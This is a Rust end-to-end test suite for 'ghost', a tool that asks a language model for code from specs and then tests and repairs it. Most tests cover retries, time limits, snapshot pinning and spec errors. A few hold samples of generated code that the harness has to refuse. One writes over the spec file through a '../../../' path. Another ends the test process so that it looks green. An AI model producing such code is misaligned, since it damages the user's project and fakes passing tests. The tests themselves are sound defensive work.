    let _machine = shared();
    let server = Background::start_with(script(vec![
        Box::new(|seen| wire::text(seen, "", Stop::Done)),
        Box::new(|seen| wire::text(seen, "I would write it in Rust.", Stop::Done)),
        cut(),
        code(DOUBLE_RIGHT),
    ]));
    let p = Project::new("e2e_no_code_words", &openai(&server), &[DOUBLE]);
    let run = p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 4);
    let log = p.run_log();
    for said in [
        "(attempt 1): failed: the model's reply was empty",
        "(attempt 2): failed: the reply has no ```rust code block",
        "(attempt 3): failed: the reply was cut off: the model reached its token limit",
    ] {
        assert!(run.stderr.contains(said), "{said}:\n{}", run.stderr);
        let logged = said.split_once(": ").map_or(said, |(_, l)| l);
        assert!(log.contains(logged), "{logged}:\n{log}");
    }
    assert!(
        !run.text().contains("answer with") && !log.contains("answer with"),
        "no instruction for the user:\n{}\n{log}",
        run.text()
    );
    // The model is told as before, word for word.
    let told = "the reply has no ```rust code block; answer with the whole imp.rs in one fenced ```rust block";
    assert!(seen[1].prompt().contains(told), "{}", seen[1].prompt());
    assert!(seen[2].prompt().contains(told), "{}", seen[2].prompt());
    assert!(
        seen[3].prompt().contains("the reply was cut off (the model reached its token limit); answer with less explanation and the whole imp.rs in one ```rust block"),
        "{}",
        seen[3].prompt()
    );
}

/// The same faults in the Anthropic format, streamed.
#[test]
fn anthropic_streamed_faults_then_code() {
    let _machine = shared();
    let server = Background::start_with(script(vec![
        raw(Answer::json(
            500,
            r#"{"type":"error","error":{"type":"api_error","message":"boom"}}"#,
        )),
        cut(),
        code(DOUBLE_RIGHT),
    ]));
    let p = Project::new(
        "e2e_anthropic",
        &http_agent("anthropic", &server, true),
        &[DOUBLE],
    );
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3);
    assert!(seen.iter().all(|s| s.path == "/v1/messages"));
    assert_eq!(seen[0].json()["stream"], true);
    assert_eq!(seen[0].header("x-api-key"), Some(KEY));
    assert!(seen[2].prompt().contains("cut off"));
    // The module's part of every prompt is one block, marked for Anthropic's prompt
    // cache: the repair opens with the same block as the first prompt.
    let opening = |s: &Seen| s.json()["messages"][0]["content"][0].clone();
    assert_eq!(opening(&seen[2]), opening(&seen[0]));
    assert_eq!(opening(&seen[0])["cache_control"]["type"], "ephemeral");
    assert!(opening(&seen[0])["text"]
        .as_str()
        .is_some_and(|t| t.contains("# Module `math.double`") && !t.contains("# Repair")));
    assert_eq!(p.entry("math.double").attempts, 2);
    p.assert_no_key();
}

/// A reply that is not JSON at all is a failed attempt, not the end of the build: it is
/// logged, and the same prompt is asked again (there is nothing to tell the model). So is
/// one that came after a retry (a server error first).
#[test]
fn garbage_json_is_a_failed_attempt() {
    let _machine = shared();
    let server = Background::start_with(script(vec![
        raw(Answer::json(500, r#"{"error":{"message":"boom"}}"#)),
        raw(Answer::json(200, "<html>not json {{")),
        code(DOUBLE_RIGHT),
    ]));
    // Whole replies: a streamed one without events is a dropped connection, retried.
    let agent = http_agent("openai", &server, false);
    let p = Project::new("e2e_garbage", &agent, &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3);
    assert_eq!(seen[0].prompt(), seen[2].prompt());
    assert_eq!(p.entry("math.double").attempts, 2);
    let log = p.run_log();
    assert!(
        log.contains("unexpected answer"),
        "the run log says why:\n{log}"
    );
    // The garbled answer was paid for: the server read the prompt.
    let garbled: serde_json::Value = log
        .lines()
        .find(|l| l.contains("unexpected answer"))
        .and_then(|l| serde_json::from_str(l).ok())
        .expect("the failed attempt's line");
    assert!(
        garbled["tokens_in"].as_u64().unwrap_or(0) > 0,
        "estimated: {garbled}"
    );
}

// ---------------------------------------------------------------------------------------
// Time limits, misbehaving agents, exhausted attempts

/// An implementation that never returns: the test time limit (`[build] test_timeout`)
/// stops it, and the repair prompt says so.
#[test]
fn a_hanging_implementation_hits_the_time_limit_and_is_repaired() {
    let _machine = alone();
    let server = Background::start_with(script(vec![
        code(DOUBLE_RIGHT),
        code(DOUBLE_LOOPING),
        code(DOUBLE_RIGHT),
        // In case a slow machine spends the limit on compiling the right code.
        code(DOUBLE_RIGHT),
        code(DOUBLE_RIGHT),
    ]));
    let p = Project::new("e2e_hang", &openai(&server), &[DOUBLE]);
    // A first build with the default limit compiles everything the later ones reuse.
    p.ghost(&["build"]).expect(0);

    p.configure(&openai(&server), "test_timeout = 15");
    p.spec(
        DOUBLE.0,
        &DOUBLE
            .1
            .replace("\"Twice n.\"", "\"Twice n, returned at once.\""),
    );
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert!(seen.len() >= 3, "{}", seen.len());
    let repair = seen[2].prompt();
    assert!(
        repair.contains("did not finish within the time limit"),
        "the repair names the hang:\n{repair}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// Code that ends the test process (`exit(0)`: cargo exits 0 and no test says FAILED) is
/// a failed attempt, never green.
#[test]
fn code_that_exits_the_test_process_is_not_green() {
    let _machine = shared();
    // An endless recursion: the runtime ends the process when the stack overflows (the
    // text check refuses every way of naming `std::process` that it can read).
    let exiting =
        "pub fn double(n: i64) -> i64 {\n    let deeper = double(n + 1);\n    deeper - 2\n}\n";
    let server = Background::start_with(script(vec![code(exiting), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_exit", &openai(&server), &[DOUBLE]);
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(
        seen.len(),
        2,
        "the code ending the process was not accepted"
    );
    let repair = seen[1].prompt();
    assert!(
        repair.contains("the test process ended before the test finished")
            && repair.contains("overflowed the stack"),
        "the repair says why:\n{repair}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
}

/// Code that writes files is not run: it could change the project it is tested in (here,
/// the spec itself). The refusal is fed back, and nothing outside the scratch changes.
#[test]
fn code_that_writes_files_is_refused_before_it_runs() {
    let _machine = shared();
    let writing = "pub fn double(n: i64) -> i64 {\n    let _ = std::fs::write(\"../../../specs/math/double.ghost\", \"\");\n    n * 2\n}\n";
    let server = Background::start_with(script(vec![code(writing), code(DOUBLE_RIGHT)]));
    let p = Project::new("e2e_writes", &openai(&server), &[DOUBLE]);
    let spec = p.root.join("specs").join(DOUBLE.0);
    let before = std::fs::read_to_string(&spec).expect("the spec");
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2, "the writing code was not accepted");
    let repair = seen[1].prompt();
    assert!(
        repair.contains("`std::fs` (files): not run"),
        "the repair says why:\n{repair}"
    );
    assert_eq!(std::fs::read_to_string(&spec).expect("the spec"), before);
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    let log = p.run_log();
    assert!(log.contains("nfr_refused"), "logged as refused:\n{log}");
}

const ACC: (&str, &str) = (
    "math/acc.ghost",
    r#"module math.acc {
  "An accumulator."

  type Acc {
    fn new() -> Acc
    fn add(mut self, n: int)
    fn total(self) -> int
  }

  snapshot "after adds" {
    let a = Acc.new()
    a.add(5)
    a.total()
  }
}
"#,
);
const ACC_RIGHT: &str = "use super::*;\n\n#[derive(Debug)]\npub struct Acc {\n    t: i64,\n}\n\nimpl Acc {\n    pub fn new() -> Acc {\n        Acc { t: 0 }\n    }\n    pub fn add(&mut self, n: i64) {\n        self.t += n;\n    }\n    pub fn total(&self) -> i64 {\n        self.t\n    }\n}\n";

/// A snapshot is pinned by the first green build; a change to the code that changes the
/// value fails it, and a change to the snapshot's own spec records it anew.
#[test]
fn a_snapshot_is_pinned_until_its_spec_changes() {
    let _machine = shared();
    let doubled = ACC_RIGHT.replace("self.t += n;", "self.t += 2 * n;");
    let server = Background::start_with(script(vec![
        code(ACC_RIGHT),
        code(Box::leak(doubled.into_boxed_str())),
        code(ACC_RIGHT),
        code(ACC_RIGHT),
        code(ACC_RIGHT),
    ]));
    let p = Project::new("e2e_snap", &openai(&server), &[ACC]);
    p.ghost(&["build"]).expect(0);
    let pin = "generated/tests/snapshots/math_acc__after_adds.snap";
    assert!(
        p.read(pin).trim_end().ends_with(" 5") || p.read(pin).trim_end().ends_with("\n5"),
        "{}",
        p.read(pin)
    );
    assert!(p.read(pin).contains("a.add(5)"), "the pin names its spec");

    // A pin deleted to accept a new value: the module is stale, and a build records the
    // value again from the code there, asking for nothing.
    std::fs::remove_file(p.root.join(pin)).expect("delete the pin");
    let status = p.ghost(&["status"]).text();
    assert!(status.contains("stale"), "{status}");
    p.ghost(&["build", "--locked"]).expect(1);
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 1, "no request");
    assert!(p.read(pin).trim_end().ends_with('5'), "{}", p.read(pin));
    p.ghost(&["build", "--locked"]).expect(0);

    // New code for a doc change: the doubled value breaks the pin, and is repaired.
    p.spec(
        ACC.0,
        &ACC.1.replace("An accumulator.", "An accumulator of ints."),
    );
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 3, "the pin failed the doubled code");
    assert!(
        seen[1]
            .prompt()
            .contains("Pinned value of `after adds`; print exactly this (field names and order included):\n```text\n5\n```"),
        "new code is shown the value it must print:\n{}",
        seen[1].prompt()
    );
    assert!(
        seen[2].prompt().contains("differs from the pinned value"),
        "{}",
        seen[2].prompt()
    );
    assert!(p.read(pin).trim_end().ends_with(" 5") || p.read(pin).trim_end().ends_with("\n5"));

    // The snapshot's own steps change (shown in the prompt, so new code is asked for):
    // the same code is green at once, against a new pin.
    p.spec(ACC.0, &ACC.1.replace("a.add(5)", "a.add(7)"));
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 4, "one request, green at once");
    assert!(
        !server.server.seen()[3].prompt().contains("Pinned value"),
        "a pin of other steps is not shown"
    );
    assert!(p.read(pin).trim_end().ends_with("\n7"), "{}", p.read(pin));
}

/// A value that differs from one run to the next (the clock in it, or a `HashMap`'s
/// order) is not pinned: the second run of the new snapshot tells it, the attempt fails
/// with why, and the next code's value is pinned.
#[test]
fn a_snapshot_that_differs_between_runs_is_not_pinned() {
    let _machine = shared();
    let timed = ACC_RIGHT
        .replace("    t: i64,\n}", "    t: i64,\n    made: u128,\n}")
        .replace(
            "Acc { t: 0 }",
            "Acc { t: 0, made: std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0) }",
        );
    let server = Background::start_with(script(vec![
        code(Box::leak(timed.into_boxed_str())),
        code(ACC_RIGHT),
    ]));
    // The snapshot is of the accumulator itself, all its fields printed.
    let spec = ACC.1.replace("    a.total()\n  }", "    a\n  }");
    let p = Project::new(
        "e2e_snap_unstable",
        &openai(&server),
        &[(ACC.0, Box::leak(spec.into_boxed_str()))],
    );
    p.ghost(&["build"]).expect(0);
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2, "the clock's value was not pinned");
    assert!(
        seen[1]
            .prompt()
            .contains("differs from one run to the next"),
        "{}",
        seen[1].prompt()
    );
    let pin = p.read("generated/tests/snapshots/math_acc__after_adds.snap");
    assert!(pin.contains("t: 5") && !pin.contains("made"), "{pin}");
    p.ghost(&["test"]).expect(0);
}

/// A snapshot no build has pinned yet is recorded by the attempt that turns green, never
/// by a failed one: the doubled code fails the scenario and records 10; the right code
/// after it records 5 and is green (before, it was held to the failed attempt's 10).
#[test]
fn a_failed_attempt_pins_no_snapshot() {
    let _machine = shared();
    let doubled = ACC_RIGHT.replace("self.t += n;", "self.t += 2 * n;");
    let server = Background::start_with(script(vec![
        code(Box::leak(doubled.into_boxed_str())),
        code(ACC_RIGHT),
        code(ACC_RIGHT),
    ]));
    let spec = ACC.1.replace(
        "  snapshot \"after adds\" {",
        "  scenario \"adds\" {\n    let a = Acc.new()\n    a.add(2)\n    expect a.total() == 2\n  }\n\n  snapshot \"after adds\" {",
    );
    let p = Project::new(
        "e2e_snap_failed",
        &openai(&server),
        &[(ACC.0, Box::leak(spec.into_boxed_str()))],
    );
    p.ghost(&["build"]).expect(0);
    assert_eq!(server.server.seen().len(), 2, "green at the second attempt");
    let pin = p.read("generated/tests/snapshots/math_acc__after_adds.snap");
    assert!(pin.trim_end().ends_with('5'), "{pin}");
}

/// A pinned snapshot edited by hand (a `cargo insta accept` in the generated crate, or an
/// editor): `check` and `status` say the module is stale, and the build keeps the edited
/// text, takes it out and pins again what the locked code prints, with no request; so a
/// green local build is green in CI's `--locked` too.
#[test]
fn an_edited_snapshot_is_stale_and_pinned_again() {
    let _machine = shared();
    let server = Background::start_with(script(vec![code(ACC_RIGHT)]));
    let p = Project::new("e2e_snap_edited", &openai(&server), &[ACC]);
    p.ghost(&["build"]).expect(0);
    let rel = "generated/tests/snapshots/math_acc__after_adds.snap";
    let pin = p.read(rel);
    let edited = format!("{}6\n", pin.trim_end().trim_end_matches(char::is_numeric));
    p.write(rel, &edited);
    for (command, code) in [("check", 0), ("status", 1)] {
        let said = p.ghost(&[command]).expect(code).text();
        assert!(said.contains("stale"), "{command}: {said}");
    }
    let run = p.ghost(&["build"]).expect(0);
    assert!(
        run.text().contains("was edited since ghost pinned it"),
        "{}",
        run.text()
    );
    assert_eq!(p.read(rel), pin, "pinned again");
    assert_eq!(server.server.seen().len(), 1, "no request");
    p.ghost(&["build", "--locked"]).expect(0);
    let kept: Vec<String> = walkdir::WalkDir::new(p.root.join(".ghost/kept"))
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| std::fs::read_to_string(e.path()).expect("kept"))
        .collect();
    assert_eq!(kept, std::slice::from_ref(&edited), "the edit is kept");

    // A pin that came with a new lock (a pull, a branch switched) is a teammate's build's,
    // not an edit: not taken out, and recorded by the next build.
    p.write(rel, &edited);
    let lock = p.read("ghost.lock");
    p.write("ghost.lock", &format!("# pulled\n{lock}"));
    let said = p.ghost(&["check"]).expect(0).text();
    assert!(!said.contains("stale"), "{said}");
    p.ghost(&["build"]).expect(0);
    assert_eq!(p.read(rel), edited, "left as it came");
}

/// An example that breaks its function's own `requires` with the spec's constants fails
/// whatever the code: the checker says so when it can evaluate the clause (E0320, no
/// request at all); otherwise the build stops after the first attempt and says the spec
/// must change. Exit 1 either way, as for a spec error.
#[test]
fn an_example_breaking_its_own_precondition_stops_the_build() {
    let _machine = shared();
    let spec = |requires: &str| {
        let text = format!(
            "module math.sq {{\n  fn sq(x: int) -> int {{\n    requires {requires}\n    example sq(2) == 4\n    example sq(-2) == 4\n  }}\n}}\n"
        );
        ("math/sq.ghost", &*Box::leak(text.into_boxed_str()))
    };
    let right = "pub fn sq(x: i64) -> i64 {\n    x * x\n}\n";
    let server = Background::start_with(script(vec![code(right), code(right)]));
    let p = Project::new("e2e_spec_fault", &openai(&server), &[spec("x >= 0")]);
    let run = p.ghost(&["build"]).expect(1);
    assert!(run.text().contains("E0320"), "{}", run.text());
    assert_eq!(
        server.server.seen().len(),
        0,
        "no tokens for what no code can pass"
    );
    // A clause the checker leaves to the tests (`contains`): one attempt, then the stop.
    let p = Project::new(
        "e2e_spec_fault_run",
        &openai(&server),
        &[spec("x >= 0 || contains([0], x)")],
    );
    let run = p.ghost(&["build"]).expect(1);
    assert_eq!(
        server.server.seen().len(),
        1,
        "one attempt: no code can mend it"
    );
    assert!(
        run.text().contains("the spec looks wrong, not the code")
            && run.text().contains("breaks its own precondition"),
        "{}",
        run.text()
    );
}

/// A float the spec writes exactly where every `f64` computation rounds (`0.1 + 0.2` is
/// not `0.3`): two attempts failing the same way stop the build, telling the user what
/// to write, instead of four spent on repairs no code can pass.
#[test]
fn a_float_the_spec_writes_past_rounding_stops_the_build() {
    let _machine = shared();
    const MEAN: (&str, &str) = (
        "stats/mean.ghost",
        "module stats.mean {\n  fn mean(a: float, b: float) -> float {\n    \"The mean of a and b.\"\n    example mean(0.2, 0.4) == 0.3\n  }\n}\n",
    );
    let right = "pub fn mean(a: f64, b: f64) -> f64 {\n    (a + b) / 2.0\n}\n";
    let server = Background::start_with(script((0..4).map(|_| code(right)).collect()));
    let p = Project::new("e2e_float_rounding", &openai(&server), &[MEAN]);
    let run = p.ghost(&["build", "--max-attempts", "4"]).expect(1);
    assert_eq!(server.server.seen().len(), 2, "{}", run.text());
    assert!(
        run.text().contains("the spec looks wrong, not the code")
            && run
                .text()
                .contains("differ only in floating-point rounding"),
        "{}",
        run.text()
    );
}

/// The spec and a command agent that always writes `code`, saving every prompt it is
/// given under the project's outside folder (`prompts`, separated by `=====`).
fn always_answering(name: &str, spec: (&'static str, &'static str), code: &str) -> Project {
    let p = Project::new(name, "", &[spec]);
    let prompts = p.outside.join("prompts");
    let code_file = p.outside.join("code.rs");
    std::fs::write(&code_file, code).expect("write the code");
    use_command_agent(
        &p,
        &format!(
            "#!/bin/sh\ncat >> '{}'\necho ===== >> '{}'\ncp '{}' \"$GHOST_IMPL_PATH\"\n",
            prompts.display(),
            prompts.display(),
            code_file.display()
        ),
    );
    p
}

/// The prompts the agent of [`always_answering`] was given.
fn prompts_seen(p: &Project) -> Vec<String> {
    let all = std::fs::read_to_string(p.outside.join("prompts")).unwrap_or_default();
    all.split("=====\n")
        .filter(|s| !s.trim().is_empty())
        .map(str::to_string)
        .collect()
}

const PRE: (&str, &str) = (
    "c/pre.ghost",
    r#"module c.pre {
  fn inc(x: int) -> int {
    requires x >= 0
    example inc(1) == 2
  }
  fn same(x: int) -> int {
    "Returns x unchanged."
    example same(3) == 3
    property forall x: int in 0..1000 => inc(same(x)) == x + 1
  }
}
"#,
);

/// A property's case whose argument to `inc` broke `inc`'s `requires` because `same`
/// computed it wrong is a failure of the code, not a case to discard: wrong code is never
/// accepted (it was, every case from 300 on being discarded).
#[test]
fn a_requires_broken_by_a_computed_argument_fails_the_property() {
    let _machine = shared();
    // Right below 300, negated from 300 on; arithmetic, so no edit of ghost's mends it.
    let wrong = "pub fn inc(x: i64) -> i64 {\n    x + 1\n}\n\npub fn same(x: i64) -> i64 {\n    x - x / 300 * 2 * x\n}\n";
    let p = always_answering("e2e_requires_computed_property", PRE, wrong);
    let run = p.ghost(&["build", "--max-attempts", "2"]).expect(3);
    assert!(
        !run.text().contains("spec contradicts itself"),
        "{}",
        run.text()
    );
    let prompts = prompts_seen(&p);
    assert_eq!(prompts.len(), 2, "{}", run.text());
    assert!(
        prompts[1].contains(
            "`inc(same(x))`: `same(x)` gave -300, which breaks `inc`'s `requires x >= 0`"
        ),
        "{}",
        prompts[1]
    );
    assert_ne!(p.imp("c.pre"), wrong, "the wrong code is not accepted");
}

/// An example whose argument to a function with `requires` the code computed blames the
/// code when it breaks the `requires`: the build goes on repairing, it does not stop
/// saying the spec contradicts itself, and the repair names the call and the value.
#[test]
fn a_requires_broken_by_a_computed_argument_is_the_code_s_failure() {
    let _machine = shared();
    let spec = (
        "c/pre.ghost",
        r#"module c.pre {
  fn inc(x: int) -> int {
    requires x >= 0
    example inc(1) == 2
  }
  fn same(x: int) -> int {
    example same(3) == 3
    example inc(same(5)) == 6
  }
  scenario "steps" {
    let n = same(7)
    expect inc(n) == 8
  }
}
"#,
    );
    let wrong = "pub fn inc(x: i64) -> i64 {\n    x + 1\n}\n\npub fn same(x: i64) -> i64 {\n    x - x / 5 * 2 * x\n}\n";
    let p = always_answering("e2e_requires_computed_example", spec, wrong);
    let run = p.ghost(&["build", "--max-attempts", "3"]).expect(3);
    assert!(
        !run.text().contains("spec contradicts itself")
            && !run.text().contains("the spec looks wrong"),
        "{}",
        run.text()
    );
    let prompts = prompts_seen(&p);
    assert_eq!(prompts.len(), 3, "every attempt made: {}", run.text());
    let repair = &prompts[1];
    assert!(
        repair
            .contains("`inc(same(5))`: `same(5)` gave -5, which breaks `inc`'s `requires x >= 0`")
            && repair.contains("`inc(n)`: `n` (from an earlier step) gave -7")
            && !repair.contains("breaks its own precondition"),
        "{repair}"
    );
}

/// A property whose function's `requires` rejects nearly every input it generates gives
/// up whatever the code: the spec's to mend, said at the first attempt (exit 1), naming
/// the property and the clause, and how to narrow the generator.
#[test]
fn a_property_that_rejects_nearly_every_input_is_the_spec_s_mistake() {
    let _machine = shared();
    let spec = (
        "c/thousands.ghost",
        "module c.thousands {\n  fn thousands(x: int) -> int {\n    requires x % 1000 == 500\n    example thousands(2500) == 2\n    property forall x: int => thousands(x) * 1000 + 500 == x\n  }\n}\n",
    );
    let right = "pub fn thousands(x: i64) -> i64 {\n    x / 1000\n}\n";
    let p = always_answering("e2e_requires_rejects", spec, right);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text().contains("spec contradicts itself")
            && run.text().contains("`property forall x: int => thousands(x) * 1000 + 500 == x` rejects nearly every case it generates (`requires x % 1000 == 500`)")
            && run.text().contains("bound the variables with `in`"),
        "{}",
        run.text()
    );
    assert_eq!(
        prompts_seen(&p).len(),
        1,
        "one attempt: no code can mend it"
    );
}

/// A property whose `where` keeps nearly only one of the values it draws (`x % 1000 ==
/// 0` keeps `x = 0` in nearly every case) passed on that one value; it now fails whatever
/// the code, and the build says so at the first attempt (exit 1), naming the input.
#[test]
fn a_property_that_keeps_nearly_one_input_is_the_spec_s_mistake() {
    let _machine = shared();
    let spec = (
        "c/thousandths.ghost",
        "module c.thousandths {\n  fn thousandths(x: int) -> int {\n    example thousandths(2500) == 2\n    property forall x: int where x % 1000 == 0 => thousandths(x) * 1000 == x\n  }\n}\n",
    );
    let right = "pub fn thousandths(x: i64) -> i64 {\n    x / 1000\n}\n";
    let p = always_answering("e2e_property_one_input", spec, right);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text().contains("spec contradicts itself")
            && run.text().contains("the property kept nearly only one input: `property forall x: int where x % 1000 == 0 => thousandths(x) * 1000 == x` kept 256 cases")
            && run.text().contains("of them `x = 0`")
            && run.text().contains("draw the values it means to keep directly"),
        "{}",
        run.text()
    );
    assert_eq!(
        prompts_seen(&p).len(),
        1,
        "one attempt: no code can mend it"
    );
}

/// A property whose own arithmetic overflows on the inputs it draws (`x * 2` over every
/// `int`) fails whatever the code returns: the spec's to mend, said at the first attempt
/// (exit 1) with the operation and the input, not a bare Rust panic sent for repair.
#[test]
fn a_property_whose_own_arithmetic_overflows_is_the_spec_s_mistake() {
    let _machine = shared();
    let spec = (
        "c/double.ghost",
        "module c.double {\n  fn double(x: int) -> int {\n    example double(-4) == -8\n    property forall x: int => double(x) == x * 2\n    property small: forall x: int in -1000..1000 => double(x) - x == x\n  }\n}\n",
    );
    let right = "pub fn double(x: i64) -> i64 {\n    x.wrapping_mul(2)\n}\n";
    let p = always_answering("e2e_property_overflows", spec, right);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text().contains("spec contradicts itself")
            && run.text().contains("`property forall x: int => double(x) == x * 2`: the property's own arithmetic overflows or divides by zero: `x * 2` (for x = ")
            && run.text().contains("bound its variables with `in`")
            && !run.text().contains("property_double_small"),
        "{}",
        run.text()
    );
    assert_eq!(
        prompts_seen(&p).len(),
        1,
        "one attempt: no code can mend it"
    );
}

/// A property whose own lookup finds nothing on an input it draws (`xs[0]` of the empty
/// list) fails whatever the code returns: the spec's to mend, said at the first attempt
/// (exit 1) with the lookup, the input and the `where` that keeps it out, not a bare
/// panic sent for repair.
#[test]
fn a_property_whose_own_lookup_finds_nothing_is_the_spec_s_mistake() {
    let _machine = shared();
    let spec = (
        "c/biggest.ghost",
        "module c.biggest {\n  fn biggest(xs: list<int>) -> int {\n    example biggest([3, 4]) == 4\n    property forall xs: list<int> => biggest(xs) >= xs[0]\n    property kept: forall xs: list<int> where len(xs) > 0 && xs[0] > 0 => biggest(xs) >= xs[0]\n  }\n}\n",
    );
    let right =
        "pub fn biggest(xs: &[i64]) -> i64 {\n    xs.iter().copied().max().unwrap_or(0)\n}\n";
    let p = always_answering("e2e_property_lookup", spec, right);
    let run = p.ghost(&["build"]).expect(1);
    assert!(
        run.text().contains("spec contradicts itself")
            && run.text().contains("`property forall xs: list<int> => biggest(xs) >= xs[0]`: the property's own lookup finds nothing: `xs[0]`: no element at that index (for xs = [])")
            && run.text().contains("keep such inputs out with a `where`")
            && !run.text().contains("property_biggest_kept"),
        "{}",
        run.text()
    );
    assert_eq!(
        prompts_seen(&p).len(),
        1,
        "one attempt: no code can mend it"
    );
}

/// A `requires` whose arithmetic overflows for a property's input (`x * 2 >= 0` for a
/// huge `x`) does not hold for it, so the case is discarded like any other that breaks
/// the clause: right code is green, not failed by a panic in the tests' own check.
#[test]
fn a_requires_whose_arithmetic_overflows_discards_the_property_s_case() {
    let _machine = shared();
    let spec = (
        "c/half.ghost",
        "module c.half {\n  fn half(x: int) -> int {\n    requires x * 2 >= 0 && -x <= 0\n    example half(4) == 2\n    property forall x: int => half(x) * 2 <= x\n  }\n}\n",
    );
    let right = "pub fn half(x: i64) -> i64 {\n    x / 2\n}\n";
    let p = always_answering("e2e_requires_overflows", spec, right);
    let run = p.ghost(&["build"]).expect(0);
    assert!(run.text().contains("accepted"), "{}", run.text());
}

/// An `ensures` whose arithmetic on the arguments alone overflows (`result == x * 2` for
/// a huge `x`) says nothing of that call: right code is green, not failed by a panic in
/// the tests' own check; wrong code still breaks the clause where it is defined.
#[test]
fn an_ensures_whose_arithmetic_on_the_arguments_overflows_holds() {
    let _machine = shared();
    let spec = (
        "c/twice.ghost",
        "module c.twice {\n  fn twice(x: int) -> int {\n    ensures result == x * 2\n    example twice(3) == 6\n    property forall x: int => twice(x) != 1\n  }\n}\n",
    );
    let right = "pub fn twice(x: i64) -> i64 {\n    x.wrapping_mul(2)\n}\n";
    let p = always_answering("e2e_ensures_overflows", spec, right);
    let run = p.ghost(&["build"]).expect(0);
    assert!(run.text().contains("accepted"), "{}", run.text());
    let wrong = "pub fn twice(x: i64) -> i64 {\n    x.wrapping_mul(2) | 1\n}\n";
    std::fs::write(p.outside.join("code.rs"), wrong).expect("write the code");
    let run = p.ghost(&["build", "--force"]).expect(3);
    assert!(
        run.text()
            .contains("`ensures result == x * 2` of `twice` does not hold for x = "),
        "{}",
        run.text()
    );
}

/// A lookup on the arguments alone that finds nothing is undefined as overflowing
/// arithmetic is: an `ensures result == m[k]` says nothing of a call with no `k` in `m`
/// (it failed right code as the code's crash, with a repair no code could pass), and a
/// `requires xs[0] >= 0` does not hold for an empty `xs` (a property's case is
/// discarded); wrong code still breaks the `ensures` where the key is there.
#[test]
fn a_lookup_on_the_arguments_that_finds_nothing_is_undefined() {
    let _machine = shared();
    let spec = (
        "c/pick.ghost",
        "module c.pick {\n  fn pick(m: map<str, int>, k: str) -> int {\n    ensures result == m[k]\n    example pick({\"a\": 1}, \"a\") == 1\n    example pick({}, \"b\") == 0\n  }\n\n  fn head(xs: list<int>) -> int {\n    requires xs[0] >= 0\n    example head([3, 4]) == 3\n    property forall xs: list<int> => head(xs) == xs[0]\n  }\n}\n",
    );
    let right = "pub fn pick(m: &BTreeMap<String, i64>, k: &str) -> i64 {\n    m.get(k).copied().unwrap_or(0)\n}\n\npub fn head(xs: &[i64]) -> i64 {\n    xs[0]\n}\n";
    let p = always_answering("e2e_lookup_undefined", spec, right);
    let run = p.ghost(&["build"]).expect(0);
    assert!(run.text().contains("accepted"), "{}", run.text());
    let wrong = right.replace("unwrap_or(0)", "unwrap_or(0) + 1");
    std::fs::write(p.outside.join("code.rs"), wrong).expect("write the code");
    // ghost's own edits would drop the `+ 1`; the agent's code is what is judged here.
    let toml = std::fs::read_to_string(p.root.join("ghost.toml")).expect("ghost.toml");
    p.write("ghost.toml", &format!("{toml}edits = false\n"));
    let run = p.ghost(&["build", "--force"]).expect(3);
    assert!(
        run.text()
            .contains("`ensures result == m[k]` of `pick` does not hold for m = "),
        "{}",
        run.text()
    );
}

/// A build that gave up on a module is not replayed by the next one (the same first
/// prompt at temperature 0 would bring back, or the cache replay, the answer that
/// failed): it goes on from the attempts made, asking anew with the next attempt's seed.
#[test]
fn a_rerun_after_attempts_ran_out_goes_on_asking_anew() {
    let _machine = shared();
    let server = Background::start_with(script(vec![
        code(DOUBLE_WRONG),
        code(DOUBLE_RIGHT),
        code(DOUBLE_RIGHT),
    ]));
    let p = Project::new("e2e_rerun", &openai(&server), &[DOUBLE]);
    p.ghost(&["build", "--max-attempts", "1"]).expect(3);
    // What the failed build spent, which no lock entry records.
    let status = p.ghost(&["status", "--message-format", "json"]).text();
    let line = status
        .lines()
        .find(|l| l.contains("\"module\":\"math.double\""))
        .unwrap_or_else(|| panic!("{status}"));
    let line: serde_json::Value = serde_json::from_str(line).expect("JSON");
    assert_eq!(line.get("attempts"), Some(&serde_json::json!(1)), "{line}");
    assert!(
        line.get("tokens_in")
            .and_then(serde_json::Value::as_u64)
            .is_some_and(|t| t > 0),
        "{line}"
    );
    let run = p.ghost(&["build", "--max-attempts", "1"]).expect(0);
    assert!(
        run.stderr
            .contains("1 earlier attempt with this spec and the code it uses failed")
            && run
                .stderr
                .contains("asking  math.double (attempt 2 (1 of 1 in this build))")
            && run
                .stderr
                .contains("testing  math.double (attempt 2): compiling and running its tests"),
        "{}",
        run.text()
    );
    let seen = server.server.seen();
    assert_eq!(seen.len(), 2, "asked, not replayed from the cache");
    let second = seen[1].json();
    assert_eq!(second.get("seed"), Some(&serde_json::json!(2)), "{second}");
    assert!(
        second
            .get("temperature")
            .and_then(serde_json::Value::as_f64)
            .is_some_and(|t| t > 0.0),
        "{second}"
    );
    assert_eq!(p.imp("math.double"), DOUBLE_RIGHT);
    assert_eq!(p.entry("math.double").attempts, 1, "this build's attempts");
    // Green: nothing to go on from, no repair to show.
    assert!(!p.root.join(".ghost/tried/math.double").exists());
    p.ghost(&["prompt", "math.double", "--repair"]).expect(2);
    // `--force` asks for other code than what is there: its first attempt samples too.
    p.ghost(&["build", "--force"]).expect(0);
    let third = server.server.seen()[2].json();
    assert!(
        third
